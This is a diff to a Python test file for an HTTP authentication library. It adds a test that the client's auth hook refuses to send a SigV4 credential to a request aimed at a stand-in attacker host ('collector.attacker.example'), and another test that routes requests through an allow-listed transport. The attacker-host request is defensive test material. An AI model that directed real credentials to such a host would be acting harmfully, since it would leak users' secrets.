@@ -105,9 +105,29 @@ def test_a_wrong_credential_is_refused_by_the_provider(world: World) -> None:
 def test_pb_auth_injects_the_credential_into_any_httpx2_client(world: World) -> None:
     import httpx2
 
+    from plugboard.auth.outbound import OutboundPolicy, guarded_http_transport
+    from tests.integration.invoke_support import resolver
+
     link = _connect(world, "sigv4")
     pb = world.client()
-    with httpx2.Client(verify=world.provider.trust, auth=pb.auth(link)) as plain:
-        # The plain client resolves names itself: use the certificate's IP address.
-        response = plain.get(f"https://127.0.0.1:{world.provider.port}/api/sigv4/direct")
+    # A plain httpx2.Client; its transport only maps the test domain to 127.0.0.1.
+    transport = guarded_http_transport(
+        OutboundPolicy(["127.0.0.1"], resolver=resolver), verify=world.provider.trust
+    )
+    with httpx2.Client(transport=transport, auth=pb.auth(link)) as plain:
+        response = plain.get(world.provider.url("/api/sigv4/direct"))
     assert response.status_code == 200, response.text
+
+
+def test_pb_auth_refuses_to_send_the_credential_to_another_host(world: World) -> None:
+    import httpx2
+
+    from plugboard.errors import OutboundBlocked
+
+    link = _connect(world, "sigv4")
+    calls: list[httpx2.Request] = []
+    transport = httpx2.MockTransport(lambda request: calls.append(request) or httpx2.Response(200))
+    with httpx2.Client(transport=transport, auth=world.client().auth(link)) as plain:
+        with pytest.raises(OutboundBlocked, match="not a host of service"):
+            plain.get("https://collector.attacker.example/api/sigv4/direct")
+    assert calls == []
